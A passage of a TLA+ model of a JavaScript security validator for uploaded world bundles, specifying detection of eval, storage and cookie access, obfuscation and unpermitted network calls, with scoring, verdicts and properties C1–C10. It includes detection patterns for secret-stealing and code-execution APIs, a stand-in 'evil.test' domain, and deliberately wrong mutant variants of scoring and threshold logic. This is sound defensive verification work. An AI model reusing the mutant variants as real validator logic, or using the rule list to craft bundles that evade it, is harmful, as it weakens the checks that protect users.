                                      <<"suspicious variable names detected",
                                        Slice(suspiciousVars, 0, 3)>>, <<>>))]
      unpermitted == NeedsNetworkPermission(signals1, permissions)
  IN [signals1 EXCEPT
        !.hasNetworkWithoutPermission = @ \/ unpermitted,
        !.detectedViolations = @
           \o When(unpermitted,
                   createViolation("no-network-without-permission", "critical",
                                   <<"network access needs a permission declaration">>,
                                   <<>>))]

(***************************************************************************)
(* scoring.ts                                                              *)
(***************************************************************************)
IsAllowedPackage(pkg) ==
  \E i \in 1..Len(ALLOWED_PACKAGES) : StartsWith(pkg, ALLOWED_PACKAGES[i])

Min(a, b) == IF a <= b THEN a ELSE b

MaxScore == 100

HasCriticalSignal(sig) ==
  \/ sig.hasEval
  \/ sig.hasDynamicCodeExecution
  \/ sig.hasNetworkWithoutPermission
  \/ sig.hasGlobalVariableOverride
  \/ sig.hasStorageAccess
  \/ sig.hasNavigatorAccess
  \/ sig.hasDangerousDOMManipulation
  \/ sig.hasObfuscatedCode

(* the score without the final Math.min *)
calculateSecurityScore_Unclamped(sig) ==
  IF HasCriticalSignal(sig) THEN MaxScore
  ELSE   (IF sig.hasDynamicURLConstruction /\ sig.hasNetworkAPI THEN 40 ELSE 0)
       + (IF sig.entropy > ENTROPY_THRESHOLD THEN 15 ELSE 0)
       + (IF sig.suspiciousVariableNames THEN 10 ELSE 0)
       + Len(SelectSeq(sig.importedPackages, LAMBDA pkg : ~IsAllowedPackage(pkg))) * 20
       + Len(sig.referencedDomains) * 25

(* a domain of the built-in allow-list costs nothing *)
calculateSecurityScore_AllowedDomainsFree(sig) ==
  IF HasCriticalSignal(sig) THEN MaxScore
  ELSE Min(  (IF sig.hasDynamicURLConstruction /\ sig.hasNetworkAPI THEN 40 ELSE 0)
           + (IF sig.entropy > ENTROPY_THRESHOLD THEN 15 ELSE 0)
           + (IF sig.suspiciousVariableNames THEN 10 ELSE 0)
           + Len(SelectSeq(sig.importedPackages, LAMBDA pkg : ~IsAllowedPackage(pkg))) * 20
           + Len(SelectSeq(sig.referencedDomains,
                           LAMBDA domain : ~SeqIncludes(ALLOWED_DOMAINS, domain))) * 25,
           MaxScore)

(* entropy above the threshold sets the score to 15 instead of adding 15 *)
calculateSecurityScore_EntropyOverrides(sig) ==
  IF HasCriticalSignal(sig) THEN MaxScore
  ELSE Min(  (IF sig.entropy > ENTROPY_THRESHOLD THEN 15
              ELSE IF sig.hasDynamicURLConstruction /\ sig.hasNetworkAPI THEN 40 ELSE 0)
           + (IF sig.suspiciousVariableNames THEN 10 ELSE 0)
           + Len(SelectSeq(sig.importedPackages, LAMBDA pkg : ~IsAllowedPackage(pkg))) * 20
           + Len(sig.referencedDomains) * 25,
           MaxScore)

calculateSecurityScore(sig) ==
  IF HasCriticalSignal(sig) THEN MaxScore
  ELSE LET unknownPackages == SelectSeq(sig.importedPackages, LAMBDA pkg : ~IsAllowedPackage(pkg))
           score ==
               (IF sig.hasDynamicURLConstruction /\ sig.hasNetworkAPI THEN 40 ELSE 0)
             + (IF sig.entropy > ENTROPY_THRESHOLD THEN 15 ELSE 0)
             + (IF sig.suspiciousVariableNames THEN 10 ELSE 0)
             + Len(unknownPackages) * 20
             + Len(sig.referencedDomains) * 25
       IN Min(score, MaxScore)

(* REVIEW only above 50 *)
getSecurityVerdict_ReviewAbove(score) ==
  IF score >= 70 THEN "REJECT"
  ELSE IF score > 50 THEN "REVIEW"
  ELSE "APPROVE"

getSecurityVerdict(score) ==
  IF score >= 70 THEN "REJECT"
  ELSE IF score >= 50 THEN "REVIEW"
  ELSE "APPROVE"

(***************************************************************************)
(* utils/file-context.ts                                                   *)
(***************************************************************************)
(* filePath.split('/').pop() || filePath *)
FileNameOf(filePath) ==
  LET last == SubSeq(filePath, LastIndexOf(filePath, "/") + 1, Len(filePath))
  IN IF last = EmptyString THEN filePath ELSE last

determineFileContext(filePath) ==
  LET fileName == FileNameOf(filePath)
      isUserCode ==
        Includes(fileName, Str("__federation_expose_World-")) /\ EndsWith(fileName, Str(".js"))
      isSharedLibrary ==
        \/ StartsWith(fileName, Str("__federation_shared_"))
        \/ Includes(filePath, Str("__federation_shared_"))
      isBundledDependency ==
        /\ ~isUserCode
        /\ ~isSharedLibrary
        /\ ~Includes(fileName, Str("__federation_fn_import"))
        /\ fileName # Str("remoteEntry.js")
  IN [filePath |-> fileName,
      isUserCode |-> isUserCode,
      isSharedLibrary |-> isSharedLibrary,
      isBundledDependency |-> isBundledDependency]

technicalViolations ==
  {"no-obfuscation", "no-dangerous-dom", "no-navigator-access", "no-prototype-pollution",
   "no-global-override", "no-network-without-permission"}

criticalViolations == {"no-eval", "no-storage-access", "no-storage-event"}

(* the entry point is not relaxed *)
IsRelaxedContext_NoEntryPoint(context) ==
  context.isSharedLibrary \/ context.isBundledDependency

(* any file name ending in remoteEntry.js is the entry point *)
IsRelaxedContext_EntryPointSuffix(context) ==
  \/ context.isSharedLibrary
  \/ context.isBundledDependency
  \/ EndsWith(context.filePath, Str("remoteEntry.js"))

IsRelaxedContext(context) ==
  \/ context.isSharedLibrary
  \/ context.isBundledDependency
  \/ context.filePath = Str("remoteEntry.js")

(* only user code is strict *)
IsStrictContext_UserCodeOnly(context) == context.isUserCode

IsStrictContext(context) ==
  context.isUserCode \/ Includes(context.filePath, Str("__federation_fn_import"))

adjustViolationSeverity(rule, originalSeverity, context) ==
  IF IsStrictContext(context) THEN originalSeverity
  ELSE IF IsRelaxedContext(context) /\ rule \in technicalViolations THEN "warning"
  ELSE IF IsRelaxedContext(context) /\ rule \in criticalViolations THEN "critical"
  ELSE originalSeverity

(***************************************************************************)
(* index.ts                                                                *)
(***************************************************************************)
(* the violation as detected *)
AdjustViolation_Unadjusted(violation, fileContext) == violation

(* the adjusted violation without its location *)
AdjustViolation_WithoutLocation(violation, fileContext) ==
  [rule |-> violation.rule,
   severity |-> adjustViolationSeverity(violation.rule, violation.severity, fileContext),
   message |-> violation.message]

AdjustViolation(violation, fileContext) ==
  [violation EXCEPT
     !.severity = adjustViolationSeverity(violation.rule, violation.severity, fileContext)]

DetectedAPIs(sig) ==
     When(sig.hasEval, "eval")
  \o When(sig.hasDynamicCodeExecution, "setTimeout/setInterval(string)")
  \o When(sig.hasNetworkAPI, "fetch/WebSocket/XMLHttpRequest")
  \o When(sig.hasStorageAccess, "localStorage/sessionStorage/indexedDB/cookie")
  \o When(sig.hasNavigatorAccess, "navigator")
  \o When(sig.hasDangerousDOMManipulation, "innerHTML/outerHTML/createElement")
  \o When(sig.hasObfuscatedCode, "obfuscation (atob/btoa/fromCharCode)")

SuspiciousPatterns(sig) ==
     When(sig.hasDynamicURLConstruction, <<"dynamic URL construction">>)
  \o When(sig.hasGlobalVariableOverride, <<"global variable tampering">>)
  \o When(sig.entropy > ENTROPY_THRESHOLD, <<"high-entropy string", ToFixed2(sig.entropy)>>)
  \o When(sig.suspiciousVariableNames, <<"suspicious variable names">>)

(* validate, from the signals the analysis returned to the response *)
Respond(sig, fileContext) ==
  LET adjustedViolations ==
        [i \in 1..Len(sig.detectedViolations) |->
           AdjustViolation(sig.detectedViolations[i], fileContext)]
      securityScore == calculateSecurityScore(sig)
      critical == SelectSeq(adjustedViolations, LAMBDA v : v.severity = "critical")
      warnings == SelectSeq(adjustedViolations, LAMBDA v : v.severity # "critical")
  IN [valid |-> Len(critical) = 0,
      securityScore |-> securityScore,
      violations |-> [critical |-> critical, warnings |-> warnings],
      analysis |-> [entropy |-> sig.entropy,
                    suspiciousPatterns |-> SuspiciousPatterns(sig),
                    detectedAPIs |-> DetectedAPIs(sig),
                    externalDependencies |-> SelectSeq(sig.importedPackages, IsExternalImport)]]

(***************************************************************************)
(* State                                                                   *)
(***************************************************************************)
VARIABLES
  code,            \* request.code: the statements of the source text (indices of Catalog)
  permissions,     \* request.manifestConfig?.permissions, from the post-pass on
  fileContext,     \* request.fileContext, from the end of the analysis on
  pc,              \* where the call of validate / analyzeCodeSecurity stands
  line,            \* the statement the traversal is in
  idx,             \* the next callback within that statement
  signals,         \* analyzeCodeSecurity: signals
  urlStrings,      \* analyzeCodeSecurity: urlStrings
  stringLiterals,  \* analyzeCodeSecurity: stringLiterals
  variableNames,   \* analyzeCodeSecurity: variableNames
  response,        \* what validate returned
  call,            \* a direct call of one of the pure functions: its arguments
  ret              \* ... and its return value

vars == << code, permissions, fileContext, pc, line, idx, signals, urlStrings,
           stringLiterals, variableNames, response, call, ret >>

IsUndefined(x) == DOMAIN x = {}

NoCall == [fn |-> "none"]

scope == [signals |-> signals, urlStrings |-> urlStrings,
          stringLiterals |-> stringLiterals, variableNames |-> variableNames]

SetScope(next) ==
  /\ signals' = next.signals
  /\ urlStrings' = next.urlStrings
  /\ stringLiterals' = next.stringLiterals
  /\ variableNames' = next.variableNames

(***************************************************************************)
(* validate(request) -> analyzeCodeSecurity(code, permissions)             *)
(***************************************************************************)
Init ==
  /\ code \in SourceTexts
  /\ permissions = Undefined
  /\ fileContext = Undefined
  /\ pc = "called"
  /\ line = 1
  /\ idx = 1
  /\ signals = InitialSignals
  /\ urlStrings = <<>>
  /\ stringLiterals = <<>>
  /\ variableNames = <<>>
  /\ response = Undefined
  /\ call = NoCall
  /\ ret = Undefined

(* acorn.parse returns the tree *)
ParseOk ==
  /\ pc = "called"
  /\ ~ParseThrows(code)
  /\ pc' = "walk"
  /\ UNCHANGED << code, permissions, fileContext, line, idx, signals, urlStrings,
                  stringLiterals, variableNames, response, call, ret >>

(* validate catches the error and answers "invalid" *)
ParseError_Swallowed ==
  /\ pc = "called"
  /\ ParseThrows(code)
  /\ pc' = "responded"
  /\ response' = [valid |-> FALSE, securityScore |-> MaxScore,
                  violations |-> [critical |-> <<>>, warnings |-> <<>>]]
  /\ UNCHANGED << code, permissions, fileContext, line, idx, signals, urlStrings,
                  stringLiterals, variableNames, call, ret >>

(* acorn.parse throws; neither analyzeCodeSecurity nor validate catches *)
ParseError ==
  /\ pc = "called"
  /\ ParseThrows(code)
  /\ pc' = "threw"
  /\ UNCHANGED << code, permissions, fileContext, line, idx, signals, urlStrings,
                  stringLiterals, variableNames, response, call, ret >>

Walking == pc = "walk" /\ line <= Len(code)

(* the callbacks of a statement in reverse: a node before its children *)
Current_ParentFirst ==
  StatementVisits[code[line]][Len(StatementVisits[code[line]]) + 1 - idx]

Current == StatementVisits[code[line]][idx]

CurrentStart == <<line, Current.column>>

Advance ==
  /\ IF idx < Len(StatementVisits[code[line]])
     THEN idx' = idx + 1 /\ line' = line
     ELSE idx' = 1 /\ line' = line + 1
  /\ UNCHANGED << code, permissions, fileContext, pc, response, call, ret >>

VisitCallExpression ==
  /\ Walking
  /\ Current.node.type = "CallExpression"
  /\ SetScope(CallExpression(scope, Current.node, CurrentStart))
  /\ Advance

VisitAssignmentExpression ==
  /\ Walking
  /\ Current.node.type = "AssignmentExpression"
  /\ SetScope(AssignmentExpression(scope, Current.node, CurrentStart))
  /\ Advance

VisitMemberExpression ==
  /\ Walking
  /\ Current.node.type = "MemberExpression"
  /\ SetScope(MemberExpression(scope, Current.node, Current.parent, Current.role, CurrentStart))
  /\ Advance

VisitImportDeclaration ==
  /\ Walking
  /\ Current.node.type = "ImportDeclaration"
  /\ SetScope(ImportDeclaration(scope, Current.node, CurrentStart))
  /\ Advance

VisitIdentifier ==
  /\ Walking
  /\ Current.node.type = "Identifier"
  /\ SetScope(Identifier(scope, Current.node, Current.parent, Current.role, CurrentStart))
  /\ Advance

VisitLiteral ==
  /\ Walking
  /\ Current.node.type = "Literal"
  /\ SetScope(Literal(scope, Current.node, CurrentStart))
  /\ Advance

VisitorTypes ==
  {"CallExpression", "AssignmentExpression", "MemberExpression", "ImportDeclaration",
   "Identifier", "Literal"}

(* a node of a type that has no callback in the visitor object *)
VisitOther ==
  /\ Walking
  /\ Current.node.type \notin VisitorTypes
  /\ SetScope(scope)
  /\ Advance

PermissionInputs ==
  { Undefined,
    [network |-> [allowedDomains |-> <<Str("evil.test")>>]] }

(* the traversal is over: post-pass, and analyzeCodeSecurity returns signals *)
FinishAnalysis ==
  /\ pc = "walk"
  /\ line > Len(code)
  /\ \E p \in PermissionInputs :
       /\ permissions' = p
       /\ signals' = PostPass(scope, p)
  /\ pc' = "returned"
  /\ UNCHANGED << code, fileContext, line, idx, urlStrings, stringLiterals,
                  variableNames, response, call, ret >>

Context(filePath, isUserCode, isSharedLibrary, isBundledDependency) ==
  [filePath |-> Str(filePath), isUserCode |-> isUserCode,
   isSharedLibrary |-> isSharedLibrary, isBundledDependency |-> isBundledDependency]

FileContextInputs ==
  { Undefined,
    Context("__federation_expose_World-a1.js", TRUE, FALSE, FALSE),
    Context("__federation_shared_react.js", FALSE, TRUE, FALSE),
    Context("vendor.js", FALSE, FALSE, TRUE),
    Context("__federation_fn_import.js", FALSE, FALSE, FALSE),
    Context("remoteEntry.js", FALSE, FALSE, FALSE) }

(* request.fileContext || determineFileContext(request.code) *)
EffectiveContext(given, text) ==
  IF IsUndefined(given) THEN determineFileContext(text) ELSE given

(* validate, after analyzeCodeSecurity has returned *)
Validate ==
  /\ pc = "returned"
  /\ \E c \in FileContextInputs :
       /\ fileContext' = c
       /\ response' = Respond(signals, EffectiveContext(c, SourceText(code)))
  /\ pc' = "responded"
  /\ UNCHANGED << code, permissions, line, idx, signals, urlStrings, stringLiterals,
                  variableNames, call, ret >>

Next ==
  \/ ParseOk
  \/ ParseError
  \/ VisitCallExpression
  \/ VisitAssignmentExpression
  \/ VisitMemberExpression
  \/ VisitImportDeclaration
  \/ VisitIdentifier
  \/ VisitLiteral
  \/ VisitOther
  \/ FinishAnalysis
  \/ Validate

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* Direct calls of the exported pure functions                             *)
(***************************************************************************)
Idle ==
  /\ code = <<>>
  /\ permissions = Undefined
  /\ fileContext = Undefined
  /\ pc = "direct"
  /\ line = 1
  /\ idx = 1
  /\ signals = InitialSignals
  /\ urlStrings = <<>>
  /\ stringLiterals = <<>>
  /\ variableNames = <<>>
  /\ response = Undefined

UnchangedAnalysis ==
  UNCHANGED << code, permissions, fileContext, pc, line, idx, signals, urlStrings,
               stringLiterals, variableNames, response >>

MaxPackages == 2

MaxDomains == 2

PackageInputs == {Str("react"), Str("lodash")}

DomainInputs == {Str("evil.test")}

EntropyInputs == {0, ENTROPY_THRESHOLD, ENTROPY_THRESHOLD + 1}

FlagNames ==
  {"hasEval", "hasDynamicCodeExecution", "hasNetworkAPI", "hasNetworkWithoutPermission",
   "hasDynamicURLConstruction", "hasObfuscatedCode", "hasGlobalVariableOverride",
   "hasStorageAccess", "hasNavigatorAccess", "hasDangerousDOMManipulation",
   "suspiciousVariableNames"}

SignalsOf(flags, entropy, packages, domains) ==
  [hasEval |-> "hasEval" \in flags,
   hasDynamicCodeExecution |-> "hasDynamicCodeExecution" \in flags,
   hasNetworkAPI |-> "hasNetworkAPI" \in flags,
   hasNetworkWithoutPermission |-> "hasNetworkWithoutPermission" \in flags,
   hasDynamicURLConstruction |-> "hasDynamicURLConstruction" \in flags,
   hasObfuscatedCode |-> "hasObfuscatedCode" \in flags,
   hasGlobalVariableOverride |-> "hasGlobalVariableOverride" \in flags,
   hasStorageAccess |-> "hasStorageAccess" \in flags,
   hasNavigatorAccess |-> "hasNavigatorAccess" \in flags,
   hasDangerousDOMManipulation |-> "hasDangerousDOMManipulation" \in flags,
   entropy |-> entropy,
   suspiciousVariableNames |-> "suspiciousVariableNames" \in flags,
   importedPackages |-> packages,
   referencedDomains |-> domains,
   detectedViolations |-> <<>>]

InitScore ==
  /\ Idle
  /\ \E flags \in SUBSET FlagNames, entropy \in EntropyInputs,
        packages \in SeqsUpTo(PackageInputs, MaxPackages),
        domains \in SeqsUpTo(DomainInputs, MaxDomains) :
       call = [fn |-> "calculateSecurityScore",
               signals |-> SignalsOf(flags, entropy, packages, domains)]
  /\ ret = Undefined

CallScore ==
  /\ call.fn = "calculateSecurityScore"
  /\ IsUndefined(ret)
  /\ ret' = [value |-> calculateSecurityScore(call.signals)]
  /\ UNCHANGED call
  /\ UnchangedAnalysis

SpecScore == InitScore /\ [][CallScore]_vars

InitVerdict ==
  /\ Idle
  /\ \E score \in 0..MaxScore : call = [fn |-> "getSecurityVerdict", score |-> score]
  /\ ret = Undefined

CallVerdict ==
  /\ call.fn = "getSecurityVerdict"
  /\ IsUndefined(ret)
  /\ ret' = [value |-> getSecurityVerdict(call.score)]
  /\ UNCHANGED call
  /\ UnchangedAnalysis

SpecVerdict == InitVerdict /\ [][CallVerdict]_vars

RuleIds ==
  {"no-eval", "no-string-timeout", "no-storage-access", "no-cookie-access",
   "no-indexeddb-access", "no-storage-event", "no-navigator-access", "no-dangerous-dom",
   "no-global-override", "no-prototype-pollution", "no-obfuscation", "no-external-import",
   "no-network-without-permission"}

RuleInputs == RuleIds \cup {"some-other-rule"}

Severities == {"critical", "warning"}

FilePathInputs ==
  {"__federation_expose_World-a1.js", "__federation_shared_react.js", "vendor.js",
   "__federation_fn_import.js", "x__federation_fn_import-b2.js", "remoteEntry.js",
   "myremoteEntry.js"}

ContextInputs ==
  {Context(path, u, s, b) : path \in FilePathInputs, u \in BOOLEAN, s \in BOOLEAN, b \in BOOLEAN}

InitAdjust ==
  /\ Idle
  /\ \E rule \in RuleInputs, severity \in Severities, context \in ContextInputs :
       call = [fn |-> "adjustViolationSeverity", rule |-> rule,
               originalSeverity |-> severity, context |-> context]
  /\ ret = Undefined

CallAdjust ==
  /\ call.fn = "adjustViolationSeverity"
  /\ IsUndefined(ret)
  /\ ret' = [value |-> adjustViolationSeverity(call.rule, call.originalSeverity, call.context)]
  /\ UNCHANGED call
  /\ UnchangedAnalysis

SpecAdjust == InitAdjust /\ [][CallAdjust]_vars

(***************************************************************************)
(* Properties                                                              *)
(***************************************************************************)
Children(node) ==
  CASE node.type \in {"CallExpression", "NewExpression"} ->
         {node.callee} \cup Range(node.arguments)
    [] node.type = "MemberExpression" -> {node.object, node.property}
    [] node.type \in {"AssignmentExpression", "BinaryExpression"} -> {node.left, node.right}
    [] node.type = "ExpressionStatement" -> {node.expression}
    [] node.type = "VariableDeclaration" -> {node.id, node.init}
    [] node.type = "ImportDeclaration" -> {node.local, node.source}
    [] OTHER -> {}

RECURSIVE Descendants(_)
Descendants(node) == {node} \cup UNION {Descendants(child) : child \in Children(node)}

CatalogNodes == [k \in 1..Len(Catalog) |-> Descendants(Catalog[k])]

AnalysisReturned == pc \in {"returned", "responded"}

Bit(b) == IF b THEN 1 ELSE 0

CountWhere(list, Test(_)) == Cardinality({i \in 1..Len(list) : Test(list[i])})

HasEvalCallee(node) ==
  /\ node.type = "CallExpression"
  /\ \/ node.callee.type = "Identifier" /\ node.callee.name = Str("eval")
     \/ /\ node.callee.type = "MemberExpression"
        /\ node.callee.property.type = "Identifier"
        /\ node.callee.property.name = Str("eval")

StatementsWithEval == {k \in 1..Len(Catalog) : \E node \in CatalogNodes[k] : HasEvalCallee(node)}

(* an eval call that is an argument of another call *)
StatementsWithNestedEval ==
  {k \in 1..Len(Catalog) :
     \E outer \in CatalogNodes[k] :
       /\ outer.type = "CallExpression"
       /\ \E arg \in Range(outer.arguments) : HasEvalCallee(arg)}

StatementsWithMemberEval ==
  {k \in 1..Len(Catalog) :
     \E node \in CatalogNodes[k] :
       HasEvalCallee(node) /\ node.callee.type = "MemberExpression"}

(* C1: a source text that contains a call whose callee name is eval, direct *)
(* or as a member call and at any depth, is returned with hasEval set, with *)
(* a critical no-eval violation, and scores 100.                            *)
C1_EvalDetected ==
  (AnalysisReturned /\ \E i \in 1..Len(code) : code[i] \in StatementsWithEval)
    => /\ signals.hasEval
       /\ \E i \in 1..Len(signals.detectedViolations) :
            /\ signals.detectedViolations[i].rule = "no-eval"
            /\ signals.detectedViolations[i].severity = "critical"
       /\ calculateSecurityScore(signals) = 100

C1_Witness ==
  /\ pc = "returned"
  /\ \E i \in 1..Len(code) : code[i] \in StatementsWithNestedEval
  /\ \E i \in 1..Len(code) : code[i] \in StatementsWithMemberEval
  /\ signals.hasEval

AllowedPackagePrefixes ==
  {Str("react"), Str("react-dom"), Str("three"), Str("@react-three/fiber"),
   Str("@react-three/rapier"), Str("@react-three/drei"), Str("@xrift/world-sdk")}

IsUnknownPackage(pkg) == \A prefix \in AllowedPackagePrefixes : ~StartsWith(pkg, prefix)

AnyShortCircuitFlag(sig) ==
  \E flag \in {"hasEval", "hasDynamicCodeExecution", "hasNetworkWithoutPermission",
               "hasGlobalVariableOverride", "hasStorageAccess", "hasNavigatorAccess",
               "hasDangerousDOMManipulation", "hasObfuscatedCode"} : sig[flag]

AdditiveScore(sig) ==
    40 * Bit(sig.hasDynamicURLConstruction /\ sig.hasNetworkAPI)
  + 15 * Bit(sig.entropy > 7 * EntropyScale)
  + 10 * Bit(sig.suspiciousVariableNames)
  + 20 * CountWhere(sig.importedPackages, IsUnknownPackage)
  + 25 * Len(sig.referencedDomains)

ExpectedScore(sig) ==
  IF AnyShortCircuitFlag(sig) THEN 100
  ELSE IF AdditiveScore(sig) > 100 THEN 100 ELSE AdditiveScore(sig)

ScoreIsExpected ==
  (call.fn = "calculateSecurityScore" /\ ~IsUndefined(ret))
    => ret.value \in 0..100 /\ ret.value = ExpectedScore(call.signals)

VerdictRank == [APPROVE |-> 0, REVIEW |-> 1, REJECT |-> 2]

(* C3: for a score in 0..100 the verdict is REJECT iff score >= 70, REVIEW  *)
(* iff 50 <= score < 70 and APPROVE iff score < 50, and it is never less    *)
(* severe than the verdict of a smaller score.                              *)
C3_VerdictThresholds ==
  (call.fn = "getSecurityVerdict" /\ ~IsUndefined(ret))
    => /\ (ret.value = "REJECT") <=> (call.score >= 70)
       /\ (ret.value = "REVIEW") <=> (50 <= call.score /\ call.score < 70)
       /\ (ret.value = "APPROVE") <=> (call.score < 50)
       /\ call.score = 49 => ret.value = "APPROVE"
       /\ call.score = 50 => ret.value = "REVIEW"
       /\ call.score = 69 => ret.value = "REVIEW"
       /\ call.score = 70 => ret.value = "REJECT"
       /\ call.score = 100 => ret.value = "REJECT"
       /\ \A smaller \in 0..call.score :
            VerdictRank[getSecurityVerdict(smaller)] <= VerdictRank[ret.value]

C3_Witness ==
  /\ call.fn = "getSecurityVerdict"
  /\ ~IsUndefined(ret)
  /\ call.score = 50
  /\ ret.value = "REVIEW"

Responded == pc = "responded"

UsedContext == EffectiveContext(fileContext, SourceText(code))

AdjustedSeverities ==
  LET context == UsedContext
  IN [i \in 1..Len(signals.detectedViolations) |->
        adjustViolationSeverity(signals.detectedViolations[i].rule,
                                signals.detectedViolations[i].severity, context)]

(* C4: validate answers valid = true exactly when no detected violation is  *)
(* critical after adjustViolationSeverity under the request's file context, *)
(* i.e. when violations.critical is empty; securityScore is the score of    *)
(* the unadjusted signals and has no part in valid.                         *)
C4_ValidFromAdjustedCritical ==
  Responded
    => /\ response.valid <=> (\A i \in 1..Len(AdjustedSeverities) : AdjustedSeverities[i] # "critical")
       /\ response.valid <=> (response.violations.critical = <<>>)
       /\ response.securityScore = calculateSecurityScore(signals)

(* every triggered rule is downgraded: valid with score 100 *)
C4_Witness ==
  /\ Responded
  /\ signals.detectedViolations # <<>>
  /\ \A i \in 1..Len(signals.detectedViolations) :
       signals.detectedViolations[i].severity = "critical"
  /\ response.valid
  /\ response.securityScore = 100
  /\ Len(response.violations.warnings) = Len(signals.detectedViolations)

BuiltInDomains == {Str("cdn.jsdelivr.net"), Str("unpkg.com"), Str("esm.sh")}

PermittedDomains == Range(AllowedDomainsOf(permissions)) \cup BuiltInDomains

NetworkViolationIndices ==
  {i \in 1..Len(signals.detectedViolations) :
     signals.detectedViolations[i].rule = "no-network-without-permission"}

(* fetch('<URL>') as a statement: the hostname of the literal *)
FetchLiteralHost ==
  [k \in 1..Len(Catalog) |->
     IF /\ Catalog[k].type = "ExpressionStatement"
        /\ Catalog[k].expression.type = "CallExpression"
        /\ Catalog[k].expression.callee = Id("fetch")
        /\ Len(Catalog[k].expression.arguments) = 1
        /\ Catalog[k].expression.arguments[1].type = "Literal"
        /\ Catalog[k].expression.arguments[1].typeof = "string"
     THEN URLHostname(Catalog[k].expression.arguments[1].value)
     ELSE Null]

(* C5: at the end of a detection pass hasNetworkWithoutPermission is set,   *)
(* and exactly one no-network-without-permission violation without location *)
(* is present, iff hasNetworkAPI is set and either the URL was dynamic or   *)
(* a referenced domain is in neither allow-list.  A literal fetch of a      *)
(* domain that is not permitted sets the flag and records the domain; the   *)
(* same call alone with the domain permitted leaves the flag unset.         *)
C5_NetworkPermission ==
  AnalysisReturned
    => /\ signals.hasNetworkWithoutPermission
            <=> /\ signals.hasNetworkAPI
                /\ \/ signals.hasDynamicURLConstruction
                   \/ \E d \in Range(signals.referencedDomains) : d \notin PermittedDomains
       /\ Cardinality(NetworkViolationIndices) = Bit(signals.hasNetworkWithoutPermission)
       /\ \A i \in NetworkViolationIndices :
            "location" \notin DOMAIN signals.detectedViolations[i]
       /\ \A i \in 1..Len(code) :
            FetchLiteralHost[code[i]] # Null
              => /\ FetchLiteralHost[code[i]] \in Range(signals.referencedDomains)
                 /\ FetchLiteralHost[code[i]] \notin PermittedDomains
                      => signals.hasNetworkWithoutPermission
                 /\ (Len(code) = 1 /\ FetchLiteralHost[code[i]] \in PermittedDomains)
                      => ~signals.hasNetworkWithoutPermission
       /\ (signals.hasNetworkAPI /\ signals.hasDynamicURLConstruction)
            => signals.hasNetworkWithoutPermission

(* a dynamic URL alone, no domain extracted *)
C5_Witness ==
  /\ pc = "returned"
  /\ signals.hasDynamicURLConstruction
  /\ signals.referencedDomains = <<>>
  /\ signals.hasNetworkWithoutPermission
  /\ Cardinality(NetworkViolationIndices) = 1

AdjustReturned == call.fn = "adjustViolationSeverity" /\ ~IsUndefined(ret)

InfraImportMarker == Str("__federation_fn_import")

(* C6: with isUserCode set, or with a filePath that contains the            *)
(* infra-import marker, adjustViolationSeverity returns the original        *)
(* severity, whatever the rule and the other flags of the context.          *)
C6_StrictContextsUnchanged ==
  (AdjustReturned
     /\ (call.context.isUserCode \/ Includes(call.context.filePath, InfraImportMarker)))
    => ret.value = call.originalSeverity

C6_Witness ==
  /\ AdjustReturned
  /\ call.context.isUserCode
  /\ call.context.isSharedLibrary
  /\ call.rule = "no-dangerous-dom"
  /\ call.originalSeverity = "critical"
  /\ ret.value = "critical"

TechnicalRules ==
  {"no-obfuscation", "no-dangerous-dom", "no-navigator-access", "no-prototype-pollution",
   "no-global-override", "no-network-without-permission"}

AlwaysCriticalRules == {"no-eval", "no-storage-access", "no-storage-event"}

RelaxedCall ==
  /\ ~call.context.isUserCode
  /\ ~Includes(call.context.filePath, InfraImportMarker)
  /\ \/ call.context.isSharedLibrary
     \/ call.context.isBundledDependency
     \/ call.context.filePath = Str("remoteEntry.js")

(* C7: in a context that is neither user code nor an infra-import file and  *)
(* is a shared library, a bundled dependency or remoteEntry.js, a technical *)
(* rule is adjusted to warning, no-eval, no-storage-access and              *)
(* no-storage-event to critical, and any other rule keeps its severity.     *)
C7_RelaxedContexts ==
  (AdjustReturned /\ RelaxedCall)
    => /\ call.rule \in TechnicalRules => ret.value = "warning"
       /\ call.rule \in AlwaysCriticalRules => ret.value = "critical"
       /\ call.rule \notin (TechnicalRules \cup AlwaysCriticalRules)
            => ret.value = call.originalSeverity

C7_Witness ==
  /\ AdjustReturned
  /\ call.context.filePath = Str("remoteEntry.js")
  /\ ~call.context.isSharedLibrary
  /\ ~call.context.isBundledDependency
  /\ ~call.context.isUserCode
  /\ call.rule = "no-obfuscation"
  /\ call.originalSeverity = "critical"
  /\ ret.value = "warning"

NoViolation == signals.detectedViolations = <<>>

ScoreNow == calculateSecurityScore(signals)

ImportScore ==
  20 * CountWhere(signals.importedPackages, IsUnknownPackage)
    + 25 * Len(signals.referencedDomains)

IsUnparsable(text) == \E i \in 1..Len(text) : Catalog[text[i]].type = "SyntaxError"

(* C9: a source text the parser rejects ends the call with the parser's     *)
(* error: no signals are filled in, validate returns no response, and       *)
(* nothing runs afterwards.                                                 *)
C9_ParseErrorPropagates ==
  IsUnparsable(code)
    => /\ pc \in {"called", "threw"}
       /\ IsUndefined(response)
       /\ signals = InitialSignals
       /\ urlStrings = <<>> /\ stringLiterals = <<>> /\ variableNames = <<>>
       /\ pc = "threw" => ~ENABLED Next

C9_Witness ==
  /\ pc = "threw"
  /\ Len(code) = 2
  /\ code[1] \in StatementsWithEval
  /\ IsUndefined(response)

ImportIndices == {i \in 1..Len(code) : Catalog[code[i]].type = "ImportDeclaration"}

RECURSIVE ImportSources(_)
ImportSources(text) ==
  IF text = <<>> THEN <<>>
  ELSE (IF Catalog[Head(text)].type = "ImportDeclaration"
        THEN <<Catalog[Head(text)].source.value>> ELSE <<>>)
       \o ImportSources(Tail(text))

IsHttpSource(source) ==
  \/ Len(source) >= 7 /\ SubSeq(source, 1, 7) = Str("http://")
  \/ Len(source) >= 8 /\ SubSeq(source, 1, 8) = Str("https://")

ExternalImportLines ==
  {i \in ImportIndices : IsHttpSource(Catalog[code[i]].source.value)}

ExternalImportViolations ==
  {i \in 1..Len(signals.detectedViolations) :
     signals.detectedViolations[i].rule = "no-external-import"}

(* C10: importedPackages lists the source of every import declaration in    *)
(* source order, duplicates kept; each import whose source starts with      *)
(* http:// or https://, and no other, raises one critical                   *)
(* no-external-import violation, at its line; a text of imports of          *)
(* allow-listed packages raises no violation.                               *)
C10_ImportsRecorded ==
  AnalysisReturned
    => /\ signals.importedPackages = ImportSources(code)
       /\ {signals.detectedViolations[i].location.line : i \in ExternalImportViolations}
            = ExternalImportLines
       /\ Cardinality(ExternalImportViolations) = Cardinality(ExternalImportLines)
       /\ \A i \in ExternalImportViolations : signals.detectedViolations[i].severity = "critical"
